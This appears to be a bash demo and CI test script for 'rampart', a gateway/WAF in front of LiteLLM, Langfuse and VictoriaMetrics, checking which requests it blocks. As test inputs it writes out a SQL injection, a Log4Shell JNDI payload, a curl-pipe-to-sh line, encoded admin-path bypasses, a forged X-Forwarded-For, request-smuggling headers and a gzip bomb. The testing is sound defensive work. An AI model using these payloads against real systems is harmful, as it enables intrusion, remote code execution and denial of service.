#!/usr/bin/env bash
# Runs rampart on the shipped rules (rules/gateway.toml) in seed 003's topology, with the real
# components this machine can run, and shows what it lets through and what it refuses:
#   :8000 (web)      -> LiteLLM's proxy (PyPI) on 127.0.0.1:4000, llmock as its LLM provider
#   :8001 (langfuse) -> a stand-in for the Langfuse server (scripts/langfuse_standin.py) on
#                       127.0.0.1:3001, receiving LiteLLM's traces and the langfuse SDK's
#   :8002 (victoriametrics) -> VictoriaMetrics (Debian) on 127.0.0.1:8428, which scrapes
#                       rampart's /metrics and LiteLLM's /metrics/ through :8000
# The shipped rules are used as they are, but for the listeners' ports and the VPC: here the
# VPC is 127.0.0.1 (LiteLLM, VictoriaMetrics and Grafana's queries connect from it), and
# requests "from the internet" are made from 127.0.0.3.
# DEMO_EXIT=1 exits after the show (CI does this); otherwise everything keeps serving.
set -euo pipefail
cd "$(dirname "$0")/.."

WEB=127.0.0.1:8000 LANGFUSE=127.0.0.1:8001 VM=127.0.0.1:8002 ADMIN=127.0.0.1:9901
OUTSIDE=127.0.0.3
VENV=${VENV:-.venv}
LOGS=${TMPDIR:-/tmp}/rampart-demo
mkdir -p "$LOGS"

for port in 4000 4100 3001 8428 8000 8001 8002 9901; do
  if python3 -c "import socket,sys; s=socket.socket(); sys.exit(s.connect_ex(('127.0.0.1', $port)) != 0)"; then
    echo "demo: 127.0.0.1:$port is taken; the demo needs 4000, 4100, 3001, 8428, 8000-8002 and 9901" >&2
    exit 1
  fi
done
bash scripts/venv.sh
cargo build -q -p rampart --bin rampart

pids=()
cleanup() { for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done; rm -rf "$rules"; }
rules=$(mktemp -d)
trap cleanup EXIT
wait_for() { # url what log
  for _ in $(seq 300); do curl -s -o /dev/null "$1" && return 0; sleep 0.2; done
  echo "demo: $2 did not come up; its log: $3" >&2
  exit 1
}

cp -r rules/. "$rules/"
sed -i 's|10\.20\.0\.0/16|127.0.0.1/32|g' "$rules/gateway.toml"

"$VENV/bin/llmock" serve -h 127.0.0.1 -p 4100 --log-level warning >"$LOGS/llmock.log" 2>&1 &
pids+=($!)
python3 scripts/langfuse_standin.py 3001 >"$LOGS/langfuse-standin.jsonl" 2>&1 &
pids+=($!)
cat >"$LOGS/litellm.yaml" <<YAML
model_list:
  - model_name: gpt-4o
    litellm_params:
      model: openai/gpt-4o
      api_base: http://127.0.0.1:4100/v1
      api_key: sk-llmock
litellm_settings:
  success_callback: ["langfuse", "prometheus"]
general_settings:
  master_key: sk-demo-master-key
YAML
LANGFUSE_PUBLIC_KEY=pk-lf-demo LANGFUSE_SECRET_KEY=sk-lf-demo LANGFUSE_HOST=http://$LANGFUSE \
  LANGFUSE_FLUSH_INTERVAL=1 LITELLM_LOCAL_MODEL_COST_MAP=True \
  "$VENV/bin/litellm" --config "$LOGS/litellm.yaml" --host 127.0.0.1 --port 4000 --num_workers 1 \
  >"$LOGS/litellm.log" 2>&1 &
pids+=($!)
cat >"$LOGS/scrape.yml" <<YAML
global:
  scrape_interval: 2s
scrape_configs:
  - job_name: rampart
    static_configs: [{targets: ["$ADMIN"]}]
  - job_name: litellm
    metrics_path: /metrics/
    bearer_token: sk-demo-master-key
    static_configs: [{targets: ["$WEB"]}]
YAML
victoria-metrics -httpListenAddr=127.0.0.1:8428 -storageDataPath="$LOGS/vm-data" \
  -promscrape.config="$LOGS/scrape.yml" -search.latencyOffset=0s -loggerLevel=ERROR >"$LOGS/vm.log" 2>&1 &
pids+=($!)

# Fresh random secrets for this run; in production they come from a secrets source.
export RAMPART_ORIGIN_VERIFY_SECRET=$(python3 -c 'import secrets; print(secrets.token_hex(24))')
export RAMPART_ADMIN_HEADER_SECRET=$(python3 -c 'import secrets; print(secrets.token_hex(24))')
"${CARGO_TARGET_DIR:-target}/debug/rampart" --rules "$rules" --listen web=$WEB --listen langfuse=$LANGFUSE \
  --listen victoriametrics=$VM --admin $ADMIN 2>"$LOGS/rampart.err" >"$LOGS/access.log" &
rampart_pid=$!
pids+=($rampart_pid)

wait_for "http://$ADMIN/live" rampart "$LOGS/rampart.err"
wait_for "http://127.0.0.1:4100/v1/models" llmock "$LOGS/llmock.log"
wait_for "http://127.0.0.1:8428/health" VictoriaMetrics "$LOGS/vm.log"
echo "demo: waiting for LiteLLM (its imports take a while)..."
wait_for "http://127.0.0.1:4000/health/liveliness" LiteLLM "$LOGS/litellm.log"

failures=0
show() { # expected-status description curl-args...
  local want=$1 what=$2; shift 2
  local out code
  out=$(curl -s -w '\n%{http_code}' "$@")
  code=${out##*$'\n'}
  local body=${out%$'\n'*}
  if [ "$code" = "$want" ]; then mark="ok "; else mark="BAD"; failures=$((failures+1)); fi
  printf '%s %s  %-66s %s\n' "$mark" "$code" "$what" "$(printf '%s' "${body:0:80}" | tr -d '\n')"
}
check() { # description condition
  if eval "$2"; then printf 'ok       %s\n' "$1"; else printf 'BAD      %s\n' "$1"; failures=$((failures+1)); fi
}
CHAT='{"model":"gpt-4o","messages":[{"role":"user","content":"hello"}]}'
OV="X-Origin-Verify: $RAMPART_ORIGIN_VERIFY_SECRET"
KEY="Authorization: Bearer sk-demo-master-key"
out=(--interface $OUTSIDE)

echo
echo "rampart: web $WEB -> LiteLLM, langfuse $LANGFUSE -> Langfuse stand-in, victoriametrics $VM -> VictoriaMetrics; admin $ADMIN"
echo "from the internet ($OUTSIDE):"
show 403 "chat completion straight to the origin, no X-Origin-Verify" "${out[@]}" "http://$WEB/v1/chat/completions" -H "$KEY" -H 'content-type: application/json' -d "$CHAT"
show 200 "chat completion through the CDN, to LiteLLM and its provider" "${out[@]}" "http://$WEB/v1/chat/completions" -H "$OV" -H "$KEY" -H 'content-type: application/json' -d "$CHAT"
show 403 "SQL injection in the query string (WAF)" "${out[@]}" "http://$WEB/v1/models?id=1%27%20UNION%20SELECT%20api_key%20FROM%20keys--" -H "$OV" -H "$KEY"
show 200 "a prompt with a pasted shell script and SQL (llm profile: prose)" "${out[@]}" "http://$WEB/v1/chat/completions" -H "$OV" -H "$KEY" -H 'content-type: application/json' \
  -d '{"model":"gpt-4o","messages":[{"role":"user","content":"review: rm -rf /tmp/x && curl https://x.example/i.sh | sh; SELECT * FROM users"}]}'
show 403 "Log4Shell in a JSON field that is not prose" "${out[@]}" "http://$WEB/v1/chat/completions" -H "$OV" -H "$KEY" -H 'content-type: application/json' \
  -d '{"model":"gpt-4o","user":"${jndi:ldap://x.example/a}","messages":[{"role":"user","content":"hi"}]}'
show 403 "LiteLLM's admin API /key/generate without X-Admin-Secret" "${out[@]}" "http://$WEB/key/generate" -H "$OV" -H "$KEY" -X POST
show 403 "the same, spelled /%6bey/generate" "${out[@]}" --path-as-is "http://$WEB/%6bey/generate" -H "$OV" -H "$KEY" -X POST
show 403 "the same, spelled /v1/../KEY/generate" "${out[@]}" --path-as-is "http://$WEB/v1/../KEY/generate" -H "$OV" -H "$KEY" -X POST
show 403 "VictoriaMetrics from outside the VPC, even with the header" "${out[@]}" "http://$VM/api/v1/query?query=up" -H "$OV"
show 403 "... and with a forged X-Forwarded-For: 127.0.0.1" "${out[@]}" "http://$VM/api/v1/query?query=up" -H "X-Forwarded-For: 127.0.0.1"
show 400 "ambiguous framing (Content-Length and Transfer-Encoding)" "${out[@]}" "http://$WEB/v1/models" -H "$OV" -H 'Content-Length: 3' -H 'Transfer-Encoding: chunked' -d 'abc'
show 413 "a gzip bomb to Langfuse (decoded within limits, refused)" "${out[@]}" "http://$LANGFUSE/api/public/ingestion" -H "$OV" -H 'content-type: application/json' \
  -H 'content-encoding: gzip' --data-binary @<(head -c 300000000 /dev/zero | gzip -9)

echo "traces: the langfuse SDK 5.x (OTLP protobuf, gzip) from the internet with the header, code in its inputs:"
traced=$(PYTHONPATH=integration/scripts/sitecustomize RAMPART_TEST_SOURCE=$OUTSIDE \
  "$VENV-langfuse5/bin/python" integration/scripts/langfuse_traces.py "http://$LANGFUSE" "$RAMPART_ORIGIN_VERIFY_SECRET" 5 2>"$LOGS/sdk.err" || true)
sleep 3
check "the SDK ran: $traced" "[ -n \"\$traced\" ]"
check "its exports reached the Langfuse stand-in, gzip-compressed" "grep '\"sdk\": \"5\.' '$LOGS/langfuse-standin.jsonl' | grep -q gzip"
check "LiteLLM's own traces (langfuse callback, SDK 4.x) came through :8001 from the VPC" \
  "for _ in \$(seq 30); do grep -q '\"sdk\": \"4\.' '$LOGS/langfuse-standin.jsonl' && break; sleep 1; done; grep -q '\"sdk\": \"4\.' '$LOGS/langfuse-standin.jsonl'"
check "no trace export was refused (access log of :8001)" "! grep '\"listener\":\"langfuse\"' '$LOGS/access.log' | grep '/otel' | grep -qv '\"status\":200'"

echo "from the VPC (127.0.0.1):"
check "VictoriaMetrics scrapes rampart and LiteLLM (/metrics/ through :8000)" \
  "for _ in \$(seq 30); do curl -s 'http://$VM/api/v1/query?query=sum(up)' | grep -q '\"2\"' && break; sleep 1; done; curl -s 'http://$VM/api/v1/query?query=sum(up)' | grep -q '\"2\"'"
show 200 "Grafana's query through :8002: requests rampart answered, by listener" "http://$VM/api/v1/query?query=sum%20by%20(listener)%20(rampart_requests_total)"
echo
echo "metrics (http://$ADMIN/metrics):"
curl -s "http://$ADMIN/metrics" | grep -E '^rampart_(requests_total|plugin_verdicts_total)' | sed 's/^/  /'

if [ "$failures" -ne 0 ]; then
  echo "demo: $failures unexpected answers; logs in $LOGS" >&2
  exit 1
fi
if [ "${DEMO_EXIT:-0}" = 1 ]; then exit 0; fi
echo
echo "Everything keeps serving (logs in $LOGS); try the curl lines above, edit rules in $rules, Ctrl-C to stop."
wait "$rampart_pid"
